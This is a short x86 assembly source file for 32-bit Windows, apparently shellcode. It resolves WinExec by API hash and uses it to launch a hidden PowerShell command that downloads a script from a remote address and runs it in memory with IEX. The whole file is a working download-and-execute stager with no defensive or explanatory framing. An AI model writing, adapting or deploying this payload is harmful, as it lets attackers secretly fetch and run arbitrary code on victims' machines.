; Windows, 32 bit: hands the work to PowerShell.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH win_exec, 'WinExec'
        RESOLVER
        push byte 0
        lea edx, AT(command)
        push edx
        CALL_API ebx, win_exec
        jmp short $
command: db "powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://192.0.2.80/s'))", 0
